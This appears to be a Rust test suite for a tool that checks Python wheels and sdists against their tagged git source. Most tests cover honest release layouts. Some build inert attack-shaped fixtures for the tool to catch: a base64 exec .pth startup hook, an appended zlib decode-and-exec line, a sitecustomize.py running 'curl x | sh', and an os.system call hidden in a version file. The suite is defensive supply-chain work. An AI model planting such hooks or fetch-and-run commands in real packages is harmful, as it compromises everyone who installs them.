//! Verdicts on realistic releases: honest layouts verify, attack shapes are caught.

use crate::common::*;

/// The demo project at tag `v1.4.0`, with its wheel and sdist.
fn demo_release(sandbox: &Sandbox) -> (Repo, std::path::PathBuf, std::path::PathBuf) {
    let mut repo = Repo::init(&sandbox.join("repo"));
    let source = demo_source();
    let commit = repo.commit("Release 1.4.0", &source);
    repo.tag("v1.4.0", commit);
    let dist = sandbox.join("dist");
    std::fs::create_dir_all(&dist).unwrap();
    let wheel = Wheel::new("demo", "1.4.0", &demo_wheel_files(&source)).write(&dist);
    let sdist = Sdist::new("demo", "1.4.0", &demo_sdist_files(&source)).write(&dist);
    (repo, wheel, sdist)
}

#[test]
fn clean_src_layout_release_verifies() {
    let sandbox = Sandbox::new();
    let (repo, wheel, sdist) = demo_release(&sandbox);
    let run = check_json(&repo.path, &[&wheel, &sdist], &[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["schema_version"], 1);
    let releases = report["releases"].as_array().unwrap();
    assert_eq!(releases.len(), 1, "both artifacts form one release");
    let release = &releases[0];
    assert_eq!(release["name"], "demo");
    assert_eq!(release["version"], "1.4.0");
    assert_eq!(release["verdict"], "verified");
    assert_eq!(release["source"]["tag"], "v1.4.0");
    assert_eq!(release["source"]["resolved_by"], "tag");
    assert_eq!(release["source"]["commit"].as_str().unwrap().len(), 40);
    for (i, artifact) in release["artifacts"].as_array().unwrap().iter().enumerate() {
        assert_eq!(verdict_of(&report, i), "verified", "{artifact:#}");
        assert_eq!(artifact["stats"]["extra"], 0);
        assert_eq!(artifact["stats"]["modified"], 0);
    }
    let wheel_stats = &release["artifacts"][0]["stats"];
    assert_eq!(wheel_stats["matched"], 4);
    assert_eq!(wheel_stats["generated"], 3, "METADATA, WHEEL, RECORD");
    assert_eq!(release["artifacts"][1]["stats"]["generated"], 1, "PKG-INFO");
}

#[test]
fn flat_layout_and_annotated_tag() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init(&sandbox.join("repo"));
    let source: Vec<F> = demo_source()
        .into_iter()
        .map(|file| F {
            path: file.path.trim_start_matches("src/").to_owned(),
            ..file
        })
        .collect();
    let commit = repo.commit("Release", &source);
    repo.tag_annotated("1.4.0", commit);
    let wheel_files: Vec<F> = source
        .iter()
        .filter(|f| f.path.starts_with("demo/"))
        .cloned()
        .collect();
    let wheel = Wheel::new("demo", "1.4.0", &wheel_files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "verified");
    assert_eq!(report["releases"][0]["source"]["tag"], "1.4.0");
    assert_eq!(
        report["releases"][0]["source"]["commit"],
        commit.to_string(),
        "the annotated tag is peeled to its commit"
    );
}

#[test]
fn monorepo_subfolder_package_verifies() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init(&sandbox.join("repo"));
    let mut files: Vec<F> = demo_source()
        .into_iter()
        .map(|file| F {
            path: format!("packages/demo/{}", file.path),
            ..file
        })
        .collect();
    files.push(f("packages/other/src/other/__init__.py", "X = 1\n"));
    files.push(f("README.md", "# The monorepo\n"));
    let commit = repo.commit("Release demo 1.4.0", &files);
    repo.tag("demo-1.4.0", commit);
    repo.tag("other-1.4.0", commit);
    let source = demo_source();
    let wheel = Wheel::new("demo", "1.4.0", &demo_wheel_files(&source)).write(sandbox.path());
    let sdist = Sdist::new("demo", "1.4.0", &demo_sdist_files(&source)).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel, &sdist], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(report["releases"][0]["verdict"], "verified");
    assert_eq!(report["releases"][0]["source"]["tag"], "demo-1.4.0");
    assert_eq!(report["releases"][0]["source"]["subdir"], "packages/demo");
}

#[test]
fn setuptools_sdist_with_egg_info_and_rewritten_setup_cfg_verifies() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init(&sandbox.join("repo"));
    let mut source = demo_source();
    source.retain(|f| f.path != "pyproject.toml");
    source.push(f(
        "setup.cfg",
        "[metadata]\nname=demo\nversion=1.4.0\nclassifiers=\n    Programming Language :: Python\n\n# options\n[options]\npackage_dir=\n    =src\ninstall_requires=requests>=2\n",
    ));
    source.push(f("setup.py", "from setuptools import setup\nsetup()\n"));
    let commit = repo.commit("Release", &source);
    repo.tag("v1.4.0", commit);
    let mut sdist_files = demo_sdist_files(&source);
    // setuptools re-serialises setup.cfg and appends [egg_info].
    replace(
        &mut sdist_files,
        "setup.cfg",
        "[metadata]\nname = demo\nversion = 1.4.0\nclassifiers = \n\tProgramming Language :: Python\n\n[options]\npackage_dir = \n\t=src\ninstall_requires = requests>=2\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n",
    );
    for (name, content) in [
        ("PKG-INFO", metadata("demo", "1.4.0")),
        ("SOURCES.txt", "setup.py\nsrc/demo/__init__.py\n".to_owned()),
        ("requires.txt", "requests>=2\n".to_owned()),
        ("top_level.txt", "demo\n".to_owned()),
        ("dependency_links.txt", "\n".to_owned()),
    ] {
        sdist_files.push(f(&format!("src/demo.egg-info/{name}"), content));
    }
    let sdist = Sdist::new("demo", "1.4.0", &sdist_files).write(sandbox.path());
    let run = check_json(&repo.path, &[&sdist], &["--explain"]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "verified", "{:#}", report);
    let artifact = &report["releases"][0]["artifacts"][0];
    assert_eq!(
        artifact["stats"]["generated"], 7,
        "PKG-INFO, setup.cfg, 5 egg-info files"
    );
    let files = artifact["files"].as_array().unwrap();
    let setup_cfg = files.iter().find(|f| f["path"] == "setup.cfg").unwrap();
    assert_eq!(setup_cfg["rule"], "setup-cfg-egg-info");

    // The same sdist with a dependency slipped into setup.cfg is a modification.
    replace(
        &mut sdist_files,
        "setup.cfg",
        "[metadata]\nname = demo\nversion = 1.4.0\nclassifiers = \n\tProgramming Language :: Python\n\n[options]\npackage_dir = \n\t=src\ninstall_requires = requests>=2\n\tevil-helper\n\n[egg_info]\ntag_build = \n",
    );
    let sdist = Sdist::new("demo", "1.4.0", &sdist_files).write(sandbox.path());
    let run = check_json(&repo.path, &[&sdist], &[]);
    assert_eq!(run.code, 1);
    let findings = findings_of(&run.json(), 0);
    assert_eq!(findings[0], "high modified-file setup.cfg", "{findings:?}");
}

#[test]
fn zero_padded_date_tag_matches_normalized_version() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init(&sandbox.join("repo"));
    let source = demo_source();
    let commit = repo.commit("Release", &source);
    repo.tag("2026.07.22", commit);
    let wheel = Wheel::new("demo", "2026.7.22", &demo_wheel_files(&source)).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert_eq!(run.json()["releases"][0]["source"]["tag"], "2026.07.22");
}

#[test]
fn litellm_1_82_8_shape_startup_hook_is_critical() {
    let sandbox = Sandbox::new();
    let (repo, _, _) = demo_release(&sandbox);
    let mut files = demo_wheel_files(&demo_source());
    files.push(f(
        "litellm_init.pth",
        "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "mismatch");
    let findings = findings_of(&report, 0);
    assert_eq!(
        findings[..2],
        [
            "critical extra-file litellm_init.pth".to_owned(),
            "critical startup-hook litellm_init.pth".to_owned()
        ],
        "{findings:?}"
    );
    // RECORD lists the file with a correct hash, as in the real attack: no record finding.
    assert!(!findings.iter().any(|f| f.contains("record-mismatch")));
}

#[test]
fn aiocpa_shape_payload_in_tagged_release_is_a_modification_with_diff() {
    let sandbox = Sandbox::new();
    let (repo, _, _) = demo_release(&sandbox);
    let mut files = demo_wheel_files(&demo_source());
    let core = String::from_utf8(
        files
            .iter()
            .find(|f| f.path == "demo/core.py")
            .unwrap()
            .content
            .clone(),
    )
    .unwrap();
    replace(
        &mut files,
        "demo/core.py",
        format!("{core}\nexec(__import__('zlib').decompress(b'x\\x9c'))\n"),
    );
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "mismatch");
    let finding = &report["releases"][0]["artifacts"][0]["findings"][0];
    assert_eq!(finding["code"], "modified-file");
    // Raised from high by the decode-and-exec it carries (suspicious-code).
    assert_eq!(finding["severity"], "critical");
    assert_eq!(finding["path"], "demo/core.py");
    assert_eq!(finding["evidence"]["source_path"], "src/demo/core.py");
    let diff = finding["evidence"]["diff"].as_str().unwrap();
    assert!(diff.contains("+exec(__import__('zlib')"), "{diff}");
    assert_eq!(finding["evidence"]["added_lines"], 2);
}

#[test]
fn no_tag_is_no_source_and_ref_overrides() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init(&sandbox.join("repo"));
    let source = demo_source();
    // No commit holds the wheel's files: no source.
    repo.commit("Unrelated start", &[f("README.md", "other project\n")]);
    let wheel = Wheel::new("demo", "1.4.0", &demo_wheel_files(&source)).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let report = run.json();
    assert_eq!(report["releases"][0]["verdict"], "no-source");
    assert_eq!(findings_of(&report, 0), ["high no-tag -"]);
    assert!(run.stderr.contains("--ref"), "{}", run.stderr);

    // An untagged commit that holds exactly the wheel's files is found by content search.
    let commit = repo.commit("Work in progress", &source);
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(
        report["releases"][0]["source"]["resolved_by"],
        "content-search"
    );
    assert_eq!(report["releases"][0]["verdict"], "verified");
    assert_eq!(findings_of(&report, 0)[0], "low no-tag -");

    let short = &commit.to_string()[..9];
    let run = check_json(&repo.path, &[&wheel], &["--ref", short]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(report["releases"][0]["source"]["resolved_by"], "ref");
    assert_eq!(
        report["releases"][0]["source"]["commit"],
        commit.to_string()
    );
}

#[test]
fn record_that_lies_is_a_mismatch() {
    let sandbox = Sandbox::new();
    let (repo, _, _) = demo_release(&sandbox);
    let mut wheel = Wheel::new("demo", "1.4.0", &demo_wheel_files(&demo_source()));
    let record = wheel
        .entries()
        .into_iter()
        .find(|e| e.path.ends_with("RECORD"))
        .unwrap();
    let honest = String::from_utf8(record.content).unwrap();
    let lying: String = honest
        .lines()
        .map(|line| {
            if line.starts_with("demo/core.py,") {
                "demo/core.py,sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,10".to_owned()
            } else {
                line.to_owned()
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    wheel.record_override = Some(lying);
    let path = wheel.write(sandbox.path());
    let run = check_json(&repo.path, &[&path], &[]);
    assert_eq!(run.code, 1);
    let findings = findings_of(&run.json(), 0);
    assert!(
        findings.contains(&"high record-mismatch demo/core.py".to_owned()),
        "{findings:?}"
    );
}

#[test]
fn bare_repository_works() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init_bare(&sandbox.join("repo.git"));
    let source = demo_source();
    let commit = repo.commit("Release", &source);
    repo.tag("v1.4.0", commit);
    let wheel = Wheel::new("demo", "1.4.0", &demo_wheel_files(&source)).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
}

#[test]
fn compiled_module_is_partial_and_strict_fails_it() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init(&sandbox.join("repo"));
    let mut source = demo_source();
    source.push(f("src/demo/_speedups.c", "int x;\n"));
    let commit = repo.commit("Release", &source);
    repo.tag("v1.4.0", commit);
    let mut files = demo_wheel_files(&source);
    files.retain(|f| !f.path.ends_with(".c"));
    files.push(f(
        "demo/_speedups.cpython-312-x86_64-linux-gnu.so",
        b"\x7fELF\x02\x01\x01\0compiled",
    ));
    let mut wheel = Wheel::new("demo", "1.4.0", &files);
    wheel.tag = "cp312-cp312-manylinux_2_17_x86_64".to_owned();
    let path = wheel.write(sandbox.path());
    let run = check_json(&repo.path, &[&path], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "partial");
    let finding = &report["releases"][0]["artifacts"][0]["findings"][0];
    assert_eq!(finding["code"], "binary-unverified");
    assert_eq!(finding["evidence"]["rule"], "compiled-module");
    assert_eq!(check_json(&repo.path, &[&path], &["--strict"]).code, 1);

    // A compiled module with no source counterpart is not explained.
    let mut files = demo_wheel_files(&source);
    files.push(f(
        "demo/_miner.cpython-312-x86_64-linux-gnu.so",
        b"\x7fELF\x02payload",
    ));
    let mut wheel = Wheel::new("demo", "1.4.0", &files);
    wheel.tag = "cp312-cp312-manylinux_2_17_x86_64".to_owned();
    let path = wheel.write(sandbox.path());
    let run = check_json(&repo.path, &[&path], &[]);
    assert_eq!(run.code, 1);
}

#[test]
fn several_releases_in_one_call() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init(&sandbox.join("repo"));
    let source = demo_source();
    let first = repo.commit("1.4.0", &source);
    repo.tag("v1.4.0", first);
    let mut next = source.clone();
    replace(&mut next, "README.md", "# demo\n\nNow better.\n");
    let second = repo.commit("1.5.0", &next);
    repo.tag("v1.5.0", second);
    let a = Wheel::new("demo", "1.4.0", &demo_wheel_files(&source)).write(sandbox.path());
    let b = Sdist::new("demo", "1.5.0", &demo_sdist_files(&next)).write(sandbox.path());
    let run = check_json(&repo.path, &[&a, &b], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    let releases = report["releases"].as_array().unwrap();
    assert_eq!(releases.len(), 2);
    assert_eq!(releases[0]["source"]["tag"], "v1.4.0");
    assert_eq!(releases[1]["source"]["tag"], "v1.5.0");
}

#[test]
fn sitecustomize_not_in_source_is_a_critical_startup_hook() {
    let sandbox = Sandbox::new();
    let (repo, _, _) = demo_release(&sandbox);
    let mut files = demo_wheel_files(&demo_source());
    files.push(f(
        "sitecustomize.py",
        "import os\nos.system('curl x | sh')\n",
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let findings = findings_of(&run.json(), 0);
    assert!(
        findings.contains(&"critical startup-hook sitecustomize.py".to_owned()),
        "{findings:?}"
    );
}

#[test]
fn extra_data_file_is_partial_not_mismatch() {
    let sandbox = Sandbox::new();
    let (repo, _, _) = demo_release(&sandbox);
    let mut files = demo_sdist_files(&demo_source());
    files.push(f(".pytest_cache/v/cache/lastfailed", "{}\n"));
    let sdist = Sdist::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&sdist], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "partial");
    assert_eq!(
        findings_of(&report, 0)[0],
        "medium extra-file .pytest_cache/v/cache/lastfailed"
    );
}

#[test]
fn missing_repository_is_an_operational_error() {
    let sandbox = Sandbox::new();
    let wheel =
        Wheel::new("demo", "1.4.0", &demo_wheel_files(&demo_source())).write(sandbox.path());
    let run = check_json(&sandbox.join("nowhere"), &[&wheel], &[]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("error:"), "{}", run.stderr);
}

#[test]
fn setuptools_scm_version_file_is_generated_and_checked() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init(&sandbox.join("repo"));
    let mut source = demo_source();
    replace(
        &mut source,
        "pyproject.toml",
        "[build-system]\nrequires = [\"setuptools\", \"setuptools-scm\"]\n\n[project]\nname = \"demo\"\ndynamic = [\"version\"]\n\n[tool.setuptools_scm]\nversion_file = \"src/demo/_version.py\"\n",
    );
    let commit = repo.commit("Release", &source);
    repo.tag("v1.4.0", commit);
    let template = |version: &str, tuple: &str| {
        format!(
            "# file generated by setuptools_scm\n# don't change, don't track in version control\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n    from typing import Tuple, Union\n    VERSION_TUPLE = Tuple[Union[int, str], ...]\nelse:\n    VERSION_TUPLE = object\n\nversion: str\n__version__: str\n\n__version__ = version = '{version}'\n__version_tuple__ = version_tuple = {tuple}\n"
        )
    };
    let mut files = demo_wheel_files(&source);
    files.push(f("demo/_version.py", template("1.4.0", "(1, 4, 0)")));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &["--explain"]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    let files_traced = report["releases"][0]["artifacts"][0]["files"]
        .as_array()
        .unwrap()
        .clone();
    let version_file = files_traced
        .iter()
        .find(|f| f["path"] == "demo/_version.py")
        .unwrap();
    assert_eq!(version_file["rule"], "scm-version-file");
    assert_eq!(version_file["source_path"], "src/demo/_version.py");

    // A version file that records another version contradicts the release.
    let mut files = demo_wheel_files(&source);
    files.push(f("demo/_version.py", template("1.3.0", "(1, 3, 0)")));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    assert!(
        findings_of(&run.json(), 0).contains(&"high metadata-mismatch demo/_version.py".to_owned())
    );

    // Code hidden in a version file is not explained by the rule.
    let mut files = demo_wheel_files(&source);
    files.push(f(
        "demo/_version.py",
        format!(
            "{}__import__('os').system('id')\n",
            template("1.4.0", "(1, 4, 0)")
        ),
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    assert_eq!(
        findings_of(&run.json(), 0)[0],
        "high extra-file demo/_version.py"
    );
}

#[test]
fn submodule_files_are_traced_with_its_repository_or_left_unverified_once() {
    let sandbox = Sandbox::new();
    // The submodule's own repository, pinned at `pinned`.
    let mut sub = Repo::init(&sandbox.join("sub"));
    let sub_files = vec![
        f("README.md", "toml tests\n"),
        f("tests/valid/a.toml", "a = 1\n"),
        f("tests/valid/b.toml", "b = 2\n"),
    ];
    let pinned = sub.commit("tests", &sub_files);
    // The project: its tree holds a gitlink at vendor/toml-test.
    let mut repo = Repo::init(&sandbox.join("repo"));
    let source = demo_source();
    let mut entries: Vec<(String, git2::Oid, i32)> = source
        .iter()
        .map(|file| {
            (
                file.path.clone(),
                repo.repo.blob(&file.content).unwrap(),
                0o100644,
            )
        })
        .collect();
    entries.push(("vendor/toml-test".to_owned(), pinned, 0o160000));
    let tree = repo.tree(&entries);
    let commit = repo.commit_tree("Release", tree);
    repo.tag("v1.4.0", commit);

    let mut files = demo_sdist_files(&source);
    for file in &sub_files {
        files.push(f(&format!("vendor/toml-test/{}", file.path), &file.content));
    }
    let sdist = Sdist::new("demo", "1.4.0", &files).write(sandbox.path());

    // Without the submodule's repository: partial, one finding for the three files.
    let run = check_json(&repo.path, &[&sdist], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "partial");
    let artifact = &report["releases"][0]["artifacts"][0];
    assert_eq!(artifact["stats"]["unverified"], 3);
    let findings = artifact["findings"].as_array().unwrap();
    let about_submodule: Vec<_> = findings
        .iter()
        .filter(|f| f["evidence"]["rule"] == "submodule")
        .collect();
    assert_eq!(about_submodule.len(), 1, "{findings:#?}");
    assert_eq!(about_submodule[0]["evidence"]["files"], 3);

    // With it: every file traced.
    let sub_path = sandbox.join("sub");
    let run = check_json(
        &repo.path,
        &[&sdist],
        &["--submodule", sub_path.to_str().unwrap()],
    );
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "verified", "{report:#}");
    assert_eq!(
        report["releases"][0]["artifacts"][0]["stats"]["unverified"],
        0
    );

    // A changed file inside the submodule is a modification, like any other.
    let mut tampered = files.clone();
    replace(
        &mut tampered,
        "vendor/toml-test/tests/valid/a.toml",
        "a = 'pwned'\n",
    );
    let sdist = Sdist::new("demo", "1.4.0", &tampered).write(sandbox.path());
    let run = check_json(
        &repo.path,
        &[&sdist],
        &["--submodule", sub_path.to_str().unwrap()],
    );
    assert_eq!(run.code, 0, "a changed data file is medium: {}", run.stdout);
    assert!(
        findings_of(&run.json(), 0)
            .contains(&"medium modified-file vendor/toml-test/tests/valid/a.toml".to_owned())
    );
}
